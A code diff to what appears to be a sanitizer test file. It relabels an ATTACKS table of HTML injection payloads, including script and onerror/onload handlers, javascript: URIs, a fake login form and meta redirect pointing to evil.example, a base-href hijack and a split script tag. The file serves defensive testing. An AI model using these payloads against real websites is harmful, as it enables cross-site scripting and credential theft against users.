@@ -27,19 +27,19 @@ const ATTACKS = {
   'a form':
     '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
   'a field outside of a form': '<input autofocus onfocus="alert(1)">',
-  'a choice': '<select><option>Soup</option></select><textarea>Soup</textarea>',
+  'a select and a textarea': '<select><option>Soup</option></select><textarea>Soup</textarea>',
   'a drawing with a script': '<svg><script>alert(1)</script></svg>',
   'a drawing with a handler': '<svg onload="alert(1)"><circle r="1" /></svg>',
   'a formula': '<math><mi xlink:href="javascript:alert(1)">Soup</mi></math>',
   'a base for all addresses': '<base href="https://evil.example">',
   'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   'a template': '<template><script>alert(1)</script></template>',
-  'a link without script': '<noscript><img src=x onerror=alert(1)></noscript>',
-  'an id of the page': '<p id="content">Soup</p><a name="themeEngine">Soup</a>',
-  'a class of the page': '<p class="fixed inset-0">Soup</p>',
+  'a picture for browsers without scripts': '<noscript><img src=x onerror=alert(1)></noscript>',
+  'an id and a name that the page uses': '<p id="content">Soup</p><a name="themeEngine">Soup</a>',
+  'classes that the page uses': '<p class="fixed inset-0">Soup</p>',
   'a comment with a script': '<!--><script>alert(1)</script>-->',
-  'a tag that is torn': '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  'a target of its own': '<a href="/pricing" target="_blank">Soup</a>',
+  'a script tag with another one inside': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'the target of a link': '<a href="/pricing" target="_blank">Soup</a>',
 };
 
 const FORBIDDEN =
